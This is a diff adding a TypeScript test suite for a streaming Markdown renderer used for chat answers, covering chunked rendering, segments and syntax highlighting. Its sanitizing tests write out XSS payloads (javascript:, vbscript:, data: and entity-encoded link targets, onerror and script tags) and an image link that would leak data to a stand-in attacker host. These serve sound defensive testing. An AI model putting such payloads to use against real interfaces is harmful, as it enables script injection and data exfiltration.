@@ -1,0 +1,321 @@
+import { expect } from '@open-wc/testing';
+import { loadLanguage } from '../../src/markdown/highlight.js';
+import { MarkdownView } from '../../src/markdown/markdown-view.js';
+import { chatShowing, lastAnswer, until } from '../helpers.js';
+import { seededRandom } from '../support.js';
+
+function chunk(text: string, seed: number, max: number): string[] {
+  const next = seededRandom(seed);
+  const parts: string[] = [];
+  for (let i = 0; i < text.length; ) {
+    const size = 1 + Math.floor(next() * max);
+    parts.push(text.slice(i, i + size));
+    i += size;
+  }
+  return parts;
+}
+
+async function oneShot(text: string): Promise<string> {
+  const view = new MarkdownView(document.createElement('div'));
+  view.update(text, true);
+  await view.settled();
+  return view.root.innerHTML;
+}
+
+/** The top-level elements of rendered HTML (the segments). */
+function segmentsOf(html: string): Element[] {
+  const root = document.createElement('div');
+  root.innerHTML = html;
+  return Array.from(root.children);
+}
+
+async function streamed(parts: string[]): Promise<string> {
+  const view = new MarkdownView(document.createElement('div'));
+  let text = '';
+  for (const part of parts) {
+    text += part;
+    view.update(text, false);
+  }
+  view.update(text, true);
+  await view.settled();
+  return view.root.innerHTML;
+}
+
+const documents = {
+  mixed: `# Run #5 post-mortem
+
+The run lost **$1,240** over _three_ sessions. Key causes:
+
+1. Slippage on \`market\` orders
+2. A stop-loss that was too tight
+   - triggered 14 times
+   - median hold: 3 min
+
+| Session | PnL | Trades |
+|---|---:|---:|
+| Mon | -420 | 31 |
+| Tue | -610 | 44 |
+
+> Note: fees are included.
+> They add up.
+
+\`\`\`python
+def pnl(trades):
+    return sum(t.exit - t.entry for t in trades)
+\`\`\`
+
+See the [docs](https://example.com/docs) and [the guide][guide].
+
+[guide]: https://example.com/guide "Guide"
+`,
+  looseList: `- one
+
+- two
+- three
+
+Paragraph after.
+`,
+  codeAtEnd: 'Here:\n\n```ts\nconst x: number = 1;\nconsole.log(x);\n```',
+  crlf: 'Line one\r\nline two\r\n\r\n- a\r\n- b\r\n',
+  nested: `Steps:
+
+1. Install
+   1. \`npm ci\`
+   2. \`npm test\`
+      - needs **Chromium**
+      - or _Playwright's_ own
+2. Run the demo
+
+* star list
+* with ~~struck~~ text and a [link](https://example.com/a_b)
+`,
+  languages: `~~~bash
+npm run bench -- --quick
+~~~
+
+\`\`\`typescript
+export const answer: number = 42;
+\`\`\`
+
+\`\`\`json
+{ "run": 5, "pnl": -1842.6 }
+\`\`\`
+
+\`\`\`unknown-lang
+no grammar here
+\`\`\`
+Trailing paragraph right after a fence.`,
+  emphasisHeavy: 'A **bold** word, an _italic_ one, ***both***, \`code with ** stars\`, snake_case_name, 2 * 3 * 4, and **a [link](https://x.y) inside**.',
+  setextAtEnd: 'Title\n=====\n\nSubtitle\n---',
+  tableAtEnd: '| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |',
+};
+
+describe('MarkdownView', () => {
+  for (const [name, text] of Object.entries(documents)) {
+    it(`streams "${name}" in random chunkings to the same DOM as a one-shot render`, async () => {
+      const expected = await oneShot(text);
+      expect(expected).to.not.equal('');
+      for (const [seed, max] of [[1, 1], [2, 3], [3, 8], [4, 40], [5, 200]]) {
+        expect(await streamed(chunk(text, seed, max)), `seed ${seed}, max ${max}`).to.equal(expected);
+      }
+    });
+  }
+
+  it('never shows a raw ** marker or a link to a partial URL mid-stream', async () => {
+    let linksSeen = 0;
+    for (const [name, text] of Object.entries(documents)) {
+      const final = await oneShot(text);
+      const finalHrefs = new Set(Array.from(new DOMParser().parseFromString(final, 'text/html').querySelectorAll('a')).map((a) => a.getAttribute('href')));
+      const view = new MarkdownView(document.createElement('div'));
+      for (let i = 1; i <= text.length; i++) {
+        view.update(text.slice(0, i), false);
+        const shown = view.root.textContent ?? '';
+        if (!final.includes('**')) expect(shown.includes('**'), `${name} at ${i}: ${shown.slice(-40)}`).to.be.false;
+        for (const a of Array.from(view.root.querySelectorAll('a'))) {
+          linksSeen += 1;
+          expect(finalHrefs.has(a.getAttribute('href')), `${name} at ${i}: link to ${a.getAttribute('href')}`).to.be.true;
+        }
+      }
+    }
+    // The link check ran: the documents have links, shown while they streamed.
+    expect(linksSeen).to.be.above(50);
+  });
+
+  it('never re-renders a finished block', () => {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update('First paragraph.\n\nSecond', false);
+    const first = view.root.querySelector('p')!;
+    expect(first.textContent).to.equal('First paragraph.');
+    view.update('First paragraph.\n\nSecond paragraph grows', false);
+    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list', false);
+    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list\n', true);
+    expect(view.root.querySelector('p')).to.equal(first);
+    expect(view.root.contains(first)).to.be.true;
+  });
+
+  it('renders an unterminated fence as an open code block, plain without a grammar, with a cursor', () => {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update('Code:\n\n```fortran\nprogram f\n  print *, 1', false);
+    const code = view.root.querySelector('.code-block pre code')!;
+    expect(code.textContent).to.contain('program f');
+    expect(code.classList.contains('hljs')).to.be.false;
+    expect(view.root.querySelector('.code-block .cursor')).to.exist;
+  });
+
+  it('colours an open code block as it streams, and ends as a one-shot render does', async () => {
+    expect(await loadLanguage('python')).to.be.true;
+    const text = 'Code:\n\n```python\ndef f(x):\n    """Doc."""\n    return x + 1  # one\n\nprint(f(2))\n```\n\nDone.\n';
+    const view = new MarkdownView(document.createElement('div'));
+    const end = text.indexOf('```\n\nDone');
+    let coloured = 0;
+    for (let i = 12; i < end; i += 3) {
+      view.update(text.slice(0, i), false);
+      const code = view.root.querySelector('.code-block pre code')!;
+      if (code.querySelector('.hljs-keyword')) coloured++;
+      expect(code.querySelector('.cursor'), 'the cursor stays at the end of the code').to.exist;
+    }
+    expect(coloured, 'updates that showed colours while the fence was open').to.be.greaterThan(10);
+    view.update(text, true);
+    await view.settled();
+    expect(view.root.innerHTML).to.equal(await oneShot(text));
+  });
+
+  it('highlights a closed block once its grammar loads, and removes the cursor at the end', async () => {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update('```python\ndef f():\n    return 1\n```\n', true);
+    await view.settled();
+    expect(view.root.querySelector('code.hljs .hljs-keyword')!.textContent).to.equal('def');
+    expect(view.root.querySelector('.cursor')).to.be.null;
+    expect(view.root.querySelector('.code-language')!.textContent).to.equal('python');
+  });
+
+  it('resolves a reference link whose definition arrives after its use', async () => {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update('See [the guide][g].\n\nMore text.\n\n', false);
+    expect(view.root.querySelector('a')).to.be.null;
+    view.update('See [the guide][g].\n\nMore text.\n\n[g]: https://example.com/g\n', true);
+    expect(view.root.querySelector('a')!.getAttribute('href')).to.equal('https://example.com/g');
+  });
+
+  it('starts over when the text is replaced rather than extended', () => {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update('Old answer.\n\nMore', false);
+    view.update('New answer.', true);
+    expect(view.root.textContent!.trim()).to.equal('New answer.');
+  });
+});
+
+/** A long answer: ~200 blocks of every kind, with headings and rules where segments may not start. */
+function longAnswer(): string {
+  const next = seededRandom(42);
+  const blocks: string[] = [];
+  for (let i = 0; blocks.length < 200; i++) {
+    const kind = Math.floor(next() * 8);
+    if (kind === 0) blocks.push(`## Section ${i}`);
+    else if (kind === 1) blocks.push(`- item ${i}\n- item ${i} **b**\n  - nested`);
+    else if (kind === 2) blocks.push('```js\nconst x = ' + i + ';\n```');
+    else if (kind === 3) blocks.push(`> quoted ${i}`);
+    else if (kind === 4) blocks.push(`| a | b |\n|---|---|\n| ${i} | x |`);
+    else if (kind === 5) blocks.push('---');
+    else blocks.push(`Paragraph ${i} with _emphasis_ and a [link](https://example.com/${i}).`);
+  }
+  return blocks.join('\n\n');
+}
+
+describe('MarkdownView segments', () => {
+  it('groups a long answer into segments, the same however it was chunked', async () => {
+    const text = longAnswer();
+    const expected = await oneShot(text);
+    for (const [seed, max] of [[6, 3], [7, 50], [8, 400]]) {
+      expect(await streamed(chunk(text, seed, max)), `seed ${seed}, max ${max}`).to.equal(expected);
+    }
+    const segments = segmentsOf(expected);
+    expect(segments.length).to.be.above(4);
+    expect(segments.every((s) => s.localName === 'div')).to.be.true;
+    // Full segments are sealed (skipped off-screen); the last, still filling, is not.
+    expect(segments.map((s) => s.className)).to.deep.equal([...segments.slice(1).map(() => 'segment sealed'), 'segment']);
+    // Full segments of at least 32 blocks; each later one starts with a block whose top margin is
+    // zero (never a heading or a rule), so segment edges do not change the spacing.
+    for (const segment of segments.slice(0, -1)) expect(segment.children.length).to.be.at.least(32);
+    for (const segment of segments.slice(1)) {
+      const first = segment.firstElementChild!;
+      expect(['p', 'ul', 'ol', 'blockquote', 'table'].includes(first.localName) || first.classList.contains('code-block'), first.localName).to.be.true;
+    }
+  });
+
+  it('re-renders a long answer in segments when a reference definition arrives last', async () => {
+    const text = `See [the guide][g].\n\n${longAnswer()}\n\n[g]: https://example.com/g\n`;
+    const expected = await oneShot(text);
+    expect(await streamed(chunk(text, 9, 30))).to.equal(expected);
+    const segments = segmentsOf(expected);
+    expect(segments[0].querySelector(':scope > p:first-child a')?.getAttribute('href')).to.equal('https://example.com/g');
+    expect(segments.length).to.be.above(4);
+  });
+
+  it('spaces blocks across segment edges exactly as inside a segment', async () => {
+    // Paragraphs and headings only: every paragraph-to-paragraph gap must be the same, and every
+    // paragraph-to-heading gap, whether or not a segment edge lies between them.
+    const blocks = Array.from({ length: 120 }, (_, i) => (i % 8 === 0 ? `## Heading ${i}` : `Paragraph ${i}.`));
+    const el = await chatShowing('height: 400px; display: block', blocks.join('\n\n'));
+    await until(() => lastAnswer(el)?.querySelectorAll('.segment').length > 2, 'segments');
+    const elements = Array.from(lastAnswer(el).querySelectorAll('.segment > *'));
+    const edges = elements.flatMap((e, i) => (i > 0 && e.parentElement !== elements[i - 1].parentElement ? [i] : []));
+    expect(edges.length).to.be.above(1);
+    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+    const gaps = new Map<string, Set<number>>();
+    // Off-screen segments are not laid out, so the answer is measured a few blocks at a time,
+    // each stretch brought on screen first.
+    for (let at = 1; at < elements.length; at += 4) {
+      elements[at].scrollIntoView({ block: 'center' });
+      await frame();
+      await frame();
+      for (let i = at; i < Math.min(at + 4, elements.length); i++) {
+        const pair = `${elements[i - 1].localName}->${elements[i].localName}`;
+        const gap = Math.round(elements[i].getBoundingClientRect().top - elements[i - 1].getBoundingClientRect().bottom);
+        if (!gaps.has(pair)) gaps.set(pair, new Set());
+        gaps.get(pair)!.add(gap);
+      }
+    }
+    expect([...gaps.keys()].sort()).to.deep.equal(['h2->p', 'p->h2', 'p->p']);
+    for (const [pair, sizes] of gaps) expect([...sizes], pair).to.have.length(1);
+  });
+});
+
+describe('sanitizing model output', () => {
+  function render(text: string): HTMLElement {
+    const view = new MarkdownView(document.createElement('div'));
+    view.update(text, true);
+    return view.root;
+  }
+
+  it('drops javascript:, vbscript: and data: link targets in any spelling', () => {
+    const root = render(
+      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox) [d](data:text/html,<script>alert(1)</script>) [e](&#106;avascript:alert(1)) [ok](https://example.com/ok)',
+    );
+    // Every link text is still shown; the one safe link keeps its target and no other has one.
+    expect(root.textContent).to.match(/^a b c d e ok\s*$/);
+    const hrefs = Array.from(root.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'));
+    expect(hrefs).to.deep.equal(['https://example.com/ok']);
+  });
+
+  it('opens links in a new tab without an opener', () => {
+    const a = render('[docs](https://example.com)').querySelector('a')!;
+    expect(a.target).to.equal('_blank');
+    expect(a.rel).to.equal('noopener noreferrer');
+  });
+
+  it('shows raw HTML as text and runs nothing', () => {
+    const root = render('<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>\n\n<div onclick="x()">hi</div>');
+    expect(root.querySelector('img, script, div[onclick]')).to.be.null;
+    expect(root.textContent).to.contain('<img src=x');
+    expect((window as unknown as { __pwned?: number }).__pwned).to.be.undefined;
+  });
+
+  it('does not fetch images; they become placeholders the user clicks to load', () => {
+    const root = render('![chart](https://attacker.example/leak?q=secret)');
+    expect(root.querySelector('img')).to.be.null;
+    const placeholder = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
+    expect(placeholder.textContent).to.equal('🖼 chart — load image');
+    expect(placeholder.dataset.src).to.equal('https://attacker.example/leak?q=secret');
+  });
+});
